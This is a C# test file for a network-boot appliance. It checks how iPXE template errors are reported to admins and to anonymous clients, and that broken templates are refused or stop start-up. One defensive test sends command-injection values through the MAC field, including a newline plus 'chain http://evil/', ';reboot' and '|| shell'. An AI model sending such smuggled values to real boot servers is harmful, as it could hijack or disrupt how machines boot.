using System.Diagnostics;
using System.Net;
using Fabric.Appliance.Tests.Api;

namespace Fabric.Appliance.Tests.Boot;

/// <summary>Template errors with the real renderer on an operator's templates folder: the admin API gets file, line
/// and column; an anonymous boot client gets a generic, escaped error script; a broken edit is refused; a template
/// that does not parse stops start-up.</summary>
public sealed class TemplateErrorTests : IAsyncLifetime
{
    private const string Mac = "52:54:00:00:00:01";
    private readonly string _templates = Directory.CreateTempSubdirectory("fabric-operator-templates-").FullName;
    private ApplianceHost _host = null!;

    private string HardwarePath => Path.Combine(_templates, "hardware.ipxe");

    public async Task InitializeAsync()
    {
        File.WriteAllText(HardwarePath, "#!ipxe\necho {{ name }}\n\n  {{ nope }}\n");
        File.WriteAllText(Path.Combine(_templates, "error.ipxe"), "#!ipxe\n# error script for {{ mac }}\nsleep {{ retry_seconds }}\n");
        _host = await ApplianceHost.StartAsync(
            new Dictionary<string, string?> { ["Fabric:TemplatesDir"] = _templates, ["Fabric:Boot:ReloadCheckInterval"] = "00:00:00" },
            withRenderer: false);
        await _host.AddNodeAsync(new { name = "h1", mac = Mac, role = "hardware", root = "aoe:e0.1" });
    }

    public async Task DisposeAsync()
    {
        await _host.DisposeAsync();
        Directory.Delete(_templates, recursive: true);
    }

    [Fact]
    public async Task Render_ErrorAtRenderTimeAskedByTheAdmin_ProblemNamesFileLineAndColumn()
    {
        using var admin = _host.AdminClient();
        var response = await admin.GetAsync("/api/v1/nodes/h1/render/hardware.ipxe");

        var problem = await ProblemAssert.IsProblemAsync(response, HttpStatusCode.InternalServerError);
        Assert.Equal("hardware.ipxe", problem.GetProperty("template").GetString());
        Assert.Equal(HardwarePath, problem.GetProperty("file").GetString());
        Assert.Equal(4, problem.GetProperty("line").GetInt32());
        Assert.Equal(6, problem.GetProperty("column").GetInt32());
        Assert.StartsWith($"{HardwarePath}:4:6: ", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Contains("nope", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Render_ErrorAtRenderTimeAskedAnonymously_LineAndColumnButNoPath()
    {
        var response = await _host.Client.GetAsync("/api/v1/nodes/h1/render/hardware.ipxe");

        var problem = await ProblemAssert.IsProblemAsync(response, HttpStatusCode.InternalServerError);
        Assert.Equal("hardware.ipxe", problem.GetProperty("file").GetString());
        Assert.Equal(4, problem.GetProperty("line").GetInt32());
        Assert.Equal(6, problem.GetProperty("column").GetInt32());
        Assert.StartsWith("hardware.ipxe:4:6: ", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.DoesNotContain(_templates, await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task BootScript_ErrorAtRenderTime_AnonymousClientGetsGenericScriptWithoutPaths()
    {
        var response = await _host.Client.GetAsync($"/boot/{Mac}.ipxe");
        var text = await response.Content.ReadAsStringAsync();

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(
            "#!ipxe\necho Fabric: the boot script of this machine could not be built: the appliance log says why\n" +
            $"# error script for {Mac}\nsleep 5\n",
            text);
        Assert.DoesNotContain(_templates, text, StringComparison.Ordinal);
        Assert.Equal(Fabric.Core.NodeState.Registered, _host.Registry.FindNode("h1")!.State);
    }

    [Theory]
    [InlineData("x%0Achain%20http:%2F%2Fevil%2F")]
    [InlineData("a;reboot")]
    [InlineData("x%20||%20shell%20%24%7Bnet0%2Fip%7D")]
    public async Task BootScript_BadMacCarryingCommands_ErrorScriptKeepsThemInert(string mac)
    {
        var response = await _host.Client.GetAsync($"/boot/{mac}.ipxe");
        var text = await response.Content.ReadAsStringAsync();

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var lines = text.TrimEnd('\n').Split('\n');
        Assert.Equal("#!ipxe", lines[0]);
        Assert.StartsWith("echo Fabric: ", lines[1], StringComparison.Ordinal);
        Assert.All(lines.Skip(2), l => Assert.True(l is "echo This machine will not boot from the network now." or "sleep 30" or "exit 1", l));
        Assert.DoesNotContain(";", text, StringComparison.Ordinal);
        Assert.DoesNotContain("||", text, StringComparison.Ordinal);
        Assert.DoesNotContain("${", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task BootScript_TemplateEditedIntoOneThatDoesNotParse_PreviousVersionServes()
    {
        File.WriteAllText(HardwarePath, "#!ipxe\necho good {{ name }}\n");
        Assert.Equal("#!ipxe\necho good h1\n", await _host.Client.GetStringAsync("/api/v1/nodes/h1/render/hardware.ipxe"));

        File.WriteAllText(HardwarePath, "#!ipxe\necho broken {{ name }\n");
        var kept = await _host.Client.GetStringAsync("/api/v1/nodes/h1/render/hardware.ipxe");
        var metrics = await _host.Client.GetStringAsync("/metrics");

        Assert.Equal("#!ipxe\necho good h1\n", kept);
        Assert.Contains("fabric_boot_template_refused_total", metrics, StringComparison.Ordinal);
        Assert.Contains("hardware.ipxe", metrics.Split('\n').First(l => l.StartsWith("fabric_boot_template_refused_total", StringComparison.Ordinal)), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Process_TemplatesThatDoNotParse_ExitsWithStatus2AndFileLineColumnOfEach()
    {
        var dataDir = Directory.CreateTempSubdirectory("fabric-options-").FullName;
        File.WriteAllText(Path.Combine(_templates, "bad.ipxe"), "#!ipxe\n\necho {{ name }\n");
        File.WriteAllText(Path.Combine(_templates, "worse.cfg"), "x\n{{ end }}\n");
        var start = new ProcessStartInfo("dotnet")
        {
            RedirectStandardError = true,
            RedirectStandardOutput = true,
            ArgumentList =
            {
                Path.Combine(AppContext.BaseDirectory, "fabric-appliance.dll"), "--Urls=http://127.0.0.1:0",
                $"--Fabric:DataDir={dataDir}", $"--Fabric:TemplatesDir={_templates}",
            },
        };

        using var process = Process.Start(start)!;
        var stderr = process.StandardError.ReadToEndAsync();
        _ = process.StandardOutput.ReadToEndAsync();
        await process.WaitForExitAsync();
        Directory.Delete(dataDir, true);

        Assert.Equal(2, process.ExitCode);
        var lines = (await stderr).Split('\n');
        Assert.Contains(lines, l => l.Trim().StartsWith($"fabric-appliance: boot template {Path.Combine(_templates, "bad.ipxe")}:3:14: ", StringComparison.Ordinal));
        Assert.Contains(lines, l => l.Trim().StartsWith($"fabric-appliance: boot template {Path.Combine(_templates, "worse.cfg")}:2:", StringComparison.Ordinal));
        Assert.DoesNotContain("   at ", await stderr, StringComparison.Ordinal);
    }
}
